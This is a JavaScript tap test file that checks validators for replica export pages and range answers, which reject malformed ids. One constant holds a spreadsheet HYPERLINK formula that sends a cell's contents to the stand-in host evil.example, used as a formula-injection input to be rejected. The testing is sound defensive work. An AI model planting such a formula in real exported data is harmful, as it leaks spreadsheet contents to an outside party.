import t from 'tap'
import { checkExportPage, checkReplicaAnswer } from '../../src/reconcile/replica-ids.js'

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
const HASH = 'a'.repeat(64)

t.test('native export pages: owner and entry ids are checked too', async (t) => {
  const entry = { owner: 'SH', entryId: 'SH-black-1', version: 1, suspended: false, item: {} }
  t.doesNotThrow(() => { checkExportPage({ entries: [entry], next: null }) })
  t.throws(() => { checkExportPage({ entries: [{ ...entry, entryId: FORMULA }], next: null }) }, { code: 'REPLICA_ID_INVALID' })
  t.throws(() => { checkExportPage({ entries: [{ ...entry, owner: '@SH' }], next: null }) }, { code: 'REPLICA_ID_INVALID' })
  t.throws(() => { checkExportPage({ elements: [['+1', 1, 'active', 'a'.repeat(64)]], next: null }) }, { code: 'REPLICA_ID_INVALID' })
})

t.test('range answers: entry ids and range prefixes are checked', async (t) => {
  t.doesNotThrow(() => { checkReplicaAnswer({ match: ['0a'], elements: { '': [['SH-black-1', 1, 'active', HASH]] }, children: {} }) })
  t.throws(() => { checkReplicaAnswer({ match: [], elements: { '': [[FORMULA, 1, 'active', HASH]] }, children: {} }) }, { code: 'REPLICA_ID_INVALID' })
  t.throws(() => { checkReplicaAnswer({ match: ['=1'], elements: {}, children: {} }) }, { code: 'REPLICA_ID_INVALID' })
  t.throws(() => { checkReplicaAnswer({ match: [], elements: {}, children: { zz: [] } }) }, { code: 'REPLICA_ID_INVALID' })
  t.throws(() => { checkReplicaAnswer({ match: [], elements: { '': [['x'.repeat(65), 1, 'active', HASH]] }, children: {} }) }, { code: 'REPLICA_ID_INVALID' }, 'longer than LocalIdV1 allows')
})
